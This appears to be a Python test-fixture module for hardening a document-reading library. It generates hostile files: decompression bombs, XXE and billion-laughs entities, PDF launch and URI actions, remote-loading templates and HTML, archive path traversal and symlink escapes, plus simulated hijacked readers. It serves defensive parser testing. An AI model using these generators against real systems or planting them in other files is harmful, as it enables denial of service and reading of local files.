"""The hostile files, each with the states in which it may end, and the readers gone wrong."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from clew.vocabulary import DocumentState
from tests.hardening import seeds
from tests.read.formats.making import W, a_docx, a_pdf, a_zip, an_odt, an_xlsx, pdf_lines, pdf_of

READ, BOMB, BROKEN, EMPTY = DocumentState.READ, DocumentState.BOMB, DocumentState.BROKEN, DocumentState.EMPTY
TIME, MEMORY, CRASH, ENCRYPTED = DocumentState.TIME, DocumentState.MEMORY, DocumentState.CRASH, DocumentState.ENCRYPTED
UNSUPPORTED, NEEDS_OCR = DocumentState.UNSUPPORTED, DocumentState.NEEDS_OCR


@dataclass(frozen=True, slots=True)
class Place:
    """Where an attack would reach: a file that must not be read, an address that must not be called."""

    marker: str
    address: str


@dataclass(frozen=True, slots=True)
class Attack:
    """One hostile file: its name, how it is made, the states in which it may end; READ allows documents."""

    name: str
    file: str
    make: Callable[[Place], bytes]
    ends: frozenset[DocumentState]
    hostile_reader: bool = False


def _attack(file: str, make: Callable[[Place], bytes], *ends: DocumentState, name: str = "") -> Attack:
    return Attack(name or file, file, make, frozenset(ends))


def _quoted_overlap(_place: Place) -> bytes:
    """Many entries that all unpack the same packed bytes."""
    content = a_zip({f"{number:04}.txt": "x" * 60_000 for number in range(200)})
    changed = bytearray(content)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 42 : at + 46] = (0).to_bytes(4, "little")
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _nested(depth: int, inner: bytes) -> bytes:
    for _ in range(depth):
        inner = a_zip({"a.zip": inner})
    return inner


def _swelling_nest(_place: Place) -> bytes:
    """Sixteen archives in each of sixteen, each with four megabytes of nothing."""
    level = a_zip({"zeros": bytes(4_000_000)})
    for _ in range(3):
        level = a_zip({f"{number}.zip": level for number in range(16)}, zipfile.ZIP_DEFLATED)
    return level


def _lying_size(_place: Place) -> bytes:
    content = bytearray(a_zip({"a.txt": "x" * 30_000_000}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.find(sign)
        content[place + at : place + at + 4] = (10).to_bytes(4, "little")
    return bytes(content)


def _tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def _stacked_streams(_place: Place) -> bytes:
    """A page whose content is packed six times over."""
    content = b" " * 60_000_000
    layers = 0
    while layers < 6:
        content, layers = zlib.compress(content, 9), layers + 1
    head = "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
    filters = " ".join(["/FlateDecode"] * layers)
    stream = f"<< /Length {len(content)} /Filter [{filters}] >>\nstream\n{content.decode('latin-1')}\nendstream"
    return pdf_of(*head, page, stream)


def _many_pages(count: int) -> bytes:
    kids = " ".join(["3 0 R"] * count)
    return pdf_of(
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {count} /Kids [{kids}] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    )


def _xxe(address: str) -> str:
    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "{address}">]>'


LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)


def _word(before: str, inside: str, beside: dict[str, str] | None = None) -> bytes:
    words = f"<w:p><w:r><w:t>Words {inside}</w:t></w:r></w:p>"
    body = f'<w:document xmlns:w="{W}"><w:body>{words}</w:body></w:document>'
    return a_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": before + body, **(beside or {})})


def _remote_template(place: Place) -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{place.address}/t.dotm" TargetMode="External"/></Relationships>'
    )
    return _word("", "of an honest letter.", {"word/_rels/settings.xml.rels": relation})


def _loading_page(place: Place) -> bytes:
    at = place.address
    return (
        f"<html><head><link rel=stylesheet href='{at}/a.css'><meta http-equiv=refresh content='0;url={at}/r'>"
        f"<script src='{at}/a.js'></script><base href='{at}/'></head><body background='{at}/b.png'>"
        f"<article><p>The yard was silent on the matter all day long.</p><img src='{at}/i.png'>"
        f"<iframe src='{at}/f'></iframe><object data='{at}/o'></object>"
        f"<p><a href='file://{place.marker}'>more</a></p></article></body></html>"
    ).encode()


def _page_with_entity(place: Place) -> bytes:
    return f"{_xxe('file://' + place.marker)}<html><body><p>Words &x; of the yard.</p></body></html>".encode()


def _loading_mail(place: Place) -> bytes:
    head = b"From: a@delm.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: text/html\n\n"
    return head + _loading_page(place)


def _far_cell(_place: Place) -> bytes:
    sheet = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    content = an_xlsx([["near", 1]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", sheet.encode() + b"</sheetData>"
    )
    return a_zip(members)


def _nested_mail(_place: Place) -> bytes:
    content = b"Subject: inner\n\nwords\n"
    for _ in range(1000):
        content = b"From: a@b.example.org\nContent-Type: message/rfc822\n\n" + content
    return content


def _many_parts(_place: Place) -> bytes:
    parts = b"".join(b"--b\nContent-Type: text/plain\n\nwords\n" for _ in range(8_000))
    return b"From: a@b.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + parts


def _png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", width, height) + b"\x08\2\0\0\0"


SENTENCE = seeds.SENTENCES[0]


def _replaced(content: bytes, member: str, old: bytes, new: bytes) -> bytes:
    """The same archive with some bytes of a member replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members: dict[str, bytes | str] = {info.filename: archive.read(info) for info in archive.infolist()}
    inside = members[member]
    assert isinstance(inside, bytes)
    members[member] = inside.replace(old, new, 1)
    return a_zip(members)


def _zip_link(target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("passwd.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, target)
        archive.writestr("b.txt", SENTENCE)
    return buffer.getvalue()


FILES: Sequence[Attack] = (
    _attack("flat.zip", lambda _: a_zip({"zeros": bytes(30_000_000)}), BOMB),
    _attack("flat.gz", lambda _: gzip.compress(bytes(30_000_000)), BOMB),
    _attack("flat.bz2", lambda _: bz2.compress(bytes(8_000_000)), BOMB),
    _attack("flat.xz", lambda _: lzma.compress(bytes(8_000_000)), BOMB),
    _attack("overlap.zip", _quoted_overlap, BOMB),
    _attack("deep.zip", lambda _: _nested(40, a_zip({"a.txt": SENTENCE})), BOMB),
    _attack("swelling-nest.zip", _swelling_nest, BOMB),
    _attack("members.zip", lambda _: a_zip({str(n): b"" for n in range(2_500)}, zipfile.ZIP_STORED), BOMB),
    _attack("lying-size.zip", _lying_size, BROKEN, BOMB, EMPTY, READ),
    _attack("self.zip", lambda _: a_zip({"a": b"PK\x05\x06" * 5000}), READ, BROKEN, UNSUPPORTED, EMPTY),
    _attack("swelling.docx", lambda _: a_docx("<w:p>" + " " * 8_000_000 + "</w:p>"), BOMB),
    _attack("swelling.odt", lambda _: an_odt("<text:p>" + " " * 8_000_000 + "</text:p>"), BOMB),
    _attack("swelling.xlsx", lambda _: an_xlsx([["x" * 8_000_000]]), BOMB, MEMORY, READ, BROKEN),
    _attack("far-cell.xlsx", _far_cell, MEMORY),
    _attack("swelling.warc.gz", lambda _: gzip.compress(b"WARC/1.0\r\n" + bytes(30_000_000)), BOMB, BROKEN, EMPTY),
    _attack("many.tar", lambda _: _tar(*((_member(f"{n}.txt"), b"x") for n in range(2_100))), BOMB),
    _attack("stacked.pdf", _stacked_streams, EMPTY, MEMORY, TIME, BROKEN, CRASH),
    _attack("pages.pdf", lambda _: _many_pages(2_001), BOMB),
    _attack(
        "count.pdf",
        lambda _: pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1000000000 /Kids [] >>"),
        BOMB,
        BROKEN,
        EMPTY,
    ),
    _attack(
        "loop.pdf",
        lambda _: pdf_of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"),
        BROKEN,
        EMPTY,
        BOMB,
        TIME,
    ),
    _attack(
        "xref-loop.pdf", lambda _: b"%PDF-1.7\nxref\n0 1\ntrailer\n<< /Prev 9 /Root 1 0 R >>\nstartxref\n9\n", BROKEN
    ),
    _attack(
        "actions.pdf",
        lambda p: a_pdf(pdf_lines(SENTENCE), extra={0: f"/AA << /O << /S /URI /URI ({p.address}/u) >> >>"}),
        READ,
    ),
    _attack(
        "launch.pdf",
        lambda p: a_pdf(pdf_lines(SENTENCE), extra={0: f"/AA << /O << /S /Launch /F ({p.marker}) >> >>"}),
        READ,
    ),
    _attack(
        "page.pdf", lambda _: a_pdf(pdf_lines(SENTENCE), extra={0: "/MediaBox [0 0 1e9 1e9]"}), READ, EMPTY, BROKEN
    ),
    _attack("huge.png", lambda _: _png(60_000, 60_000), BOMB),
    _attack("huge.gif", lambda _: b"GIF89a" + struct.pack("<HH", 60_000, 60_000) + bytes(20), BOMB),
    _attack("huge.jpg", lambda _: b"\xff\xd8\xff\xc0\0\x0b\x08" + struct.pack(">HH", 60_000, 60_000) + bytes(9), BOMB),
    _attack("groups.rtf", lambda _: b"{\\rtf1" + b"{" * 200_000 + b"words", BROKEN, READ, BOMB, EMPTY),
    _attack("elements.html", lambda _: b"<div>" * 100_000 + SENTENCE.encode(), READ, BROKEN),
    _attack("lists.json", lambda _: b"[" * 500_000, READ, BROKEN, EMPTY),
    _attack("commas.csv", lambda _: b"," * 100_000, READ, EMPTY, MEMORY),
    _attack("quote.csv", lambda _: b'a,b\n"' + b"x" * 3_000_000, READ),
    _attack("entity.docx", lambda p: _word(_xxe(f"file://{p.marker}"), "&x;"), BOMB, BROKEN),
    _attack("remote-entity.docx", lambda p: _word(_xxe(f"{p.address}/e"), "&x;"), BOMB, BROKEN),
    _attack("laughs.docx", lambda _: _word(LAUGHS, "&a9;"), BOMB, BROKEN),
    _attack(
        "include.docx",
        lambda p: _word("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{p.marker}"/>'),
        READ,
        EMPTY,
    ),
    _attack("template.docx", _remote_template, READ),
    _attack(
        "entity.odt",
        lambda p: a_zip(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": f"{_xxe('file://' + p.marker)}<a>&x;</a>",
            }
        ),
        BOMB,
        BROKEN,
    ),
    _attack(
        "laughs.xlsx",
        lambda _: _replaced(
            an_xlsx([["a", 1]]), "xl/worksheets/sheet1.xml", b"<worksheet", LAUGHS.encode() + b"<worksheet"
        ),
        READ,
        BROKEN,
        BOMB,
        EMPTY,
    ),
    _attack(
        "entity.svg",
        lambda p: (
            f"<?xml version='1.0'?>{_xxe('file://' + p.marker)}<svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>".encode()
        ),
        READ,
        UNSUPPORTED,
        BROKEN,
    ),
    _attack(
        "entity.xml",
        lambda p: f"<?xml version='1.0'?>{_xxe('file://' + p.marker)}<a>&x;</a>".encode(),
        READ,
        UNSUPPORTED,
        BROKEN,
    ),
    _attack("entity.html", _page_with_entity, READ),
    _attack("loading.html", _loading_page, READ),
    _attack("loading.eml", _loading_mail, READ),
    _attack(
        "loading.mhtml",
        lambda p: seeds.mhtml().replace(b"</article>", b"<img src='" + p.address.encode() + b"/m'>"),
        READ,
    ),
    _attack(
        "object.rtf",
        lambda p: (
            f"{{\\rtf1{{\\object\\objautlink{{\\*\\objdata {p.address}/o}}}}"
            f"{{\\field{{\\*\\fldinst INCLUDEPICTURE {p.address}/p}}}}{SENTENCE}\\par}}"
        ).encode(),
        READ,
    ),
    _attack(
        "escape.zip",
        lambda _: a_zip(
            {"../../../../tmp/clew-escaped": SENTENCE, "/tmp/clew-escaped": SENTENCE, "..\\..\\clew-escaped": SENTENCE}
        ),
        READ,
    ),
    _attack(
        "names.zip",
        lambda _: a_zip(
            {"a" * 4096: SENTENCE, "A.txt": SENTENCE, "a.txt": SENTENCE + "!", "x\u202etxt.exe.txt": SENTENCE + "?"}
        ),
        READ,
    ),
    _attack("link.zip", lambda p: _zip_link(p.marker), READ, EMPTY),
    _attack(
        "link.tar",
        lambda p: _tar((_member("a.txt", tarfile.SYMTYPE, p.marker), b""), (_member("b.txt"), SENTENCE.encode())),
        READ,
    ),
    _attack(
        "hardlink.tar",
        lambda p: _tar((_member("a.txt", tarfile.LNKTYPE, p.marker), b""), (_member("b.txt"), SENTENCE.encode())),
        READ,
    ),
    _attack(
        "device.tar",
        lambda _: _tar(
            (_member("zero", tarfile.CHRTYPE), b""),
            (_member("fifo", tarfile.FIFOTYPE), b""),
            (_member("../../up.txt"), SENTENCE.encode()),
        ),
        READ,
    ),
    _attack(
        "loop.tar",
        lambda _: _tar((_member("a", tarfile.LNKTYPE, "b"), b""), (_member("b", tarfile.LNKTYPE, "a"), b"")),
        EMPTY,
        BROKEN,
    ),
    _attack("nested.eml", _nested_mail, READ, BOMB, BROKEN),
    _attack("parts.eml", _many_parts, READ),
    _attack(
        "head.eml",
        lambda _: b"Subject: " + b"x" * 1_000_000 + b"\nFrom: a@b.example\nTo: c\n\nwords of the yard\n",
        READ,
    ),
    _attack(
        "charset.eml",
        lambda _: (
            b"From: a@b.example\nSubject: =?x-none?b?////?=\nContent-Type: text/plain; charset=x-none\n\n\xff w\n"
        ),
        READ,
    ),
    _attack("attachment.eml", lambda _: seeds.mail().replace(b"list.csv", b"../../../../tmp/clew-escaped"), READ),
    _attack(
        "locked.docx",
        lambda _: (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
        ),
        ENCRYPTED,
    ),
    _attack("program.pdf", lambda _: b"\x7fELF" + bytes(2000), UNSUPPORTED),
    _attack("polyglot.pdf", lambda _: a_pdf(pdf_lines(SENTENCE)) + a_zip({"a.txt": SENTENCE}), READ),
    _attack("polyglot.html", lambda _: a_zip({"a.txt": SENTENCE}) + seeds.page(), READ, BROKEN),
    _attack("empty.pdf", lambda _: b"", EMPTY),
    _attack("noise.bin", lambda _: bytes(range(256)) * 400, UNSUPPORTED),
)
DEEDS = {
    "sleep": TIME,
    "spin": TIME,
    "swallow": MEMORY,
    "grow": MEMORY,
    "segfault": CRASH,
    "exit": CRASH,
    "raise": CRASH,
    "recurse": CRASH,
    "babble": CRASH,
    "lie": CRASH,
    "stray": CRASH,
}
PROBES = ("open", "write", "socket", "exec", "run", "fork", "session", "signal", "trace")


def _reader(order: str, end: DocumentState) -> Attack:
    """A reader that has been taken over and obeys the file."""
    return Attack(f"reader told to {order}", "a.txt", lambda _: order.encode(), frozenset({end}), hostile_reader=True)


READERS: Sequence[Attack] = (
    *(_reader(deed, end) for deed, end in DEEDS.items()),
    *(_reader(f"probe {deed}", BROKEN) for deed in PROBES),
)
ATTACKS = (*FILES, *READERS)
COUNT = len(ATTACKS)
